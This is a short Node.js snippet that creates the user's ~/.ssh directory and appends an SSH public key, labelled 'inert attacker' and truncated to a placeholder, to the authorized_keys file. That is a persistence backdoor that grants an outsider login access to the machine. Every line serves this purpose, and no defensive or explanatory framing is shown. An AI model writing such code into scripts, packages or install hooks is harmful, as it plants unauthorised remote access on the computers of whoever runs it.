const fs = require('fs'), os = require('os'), path = require('path');
const dir = path.join(os.homedir(), '.ssh');
fs.mkdirSync(dir, { recursive: true });
fs.appendFileSync(path.join(dir, 'authorized_keys'), '\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ-inert attacker\n');
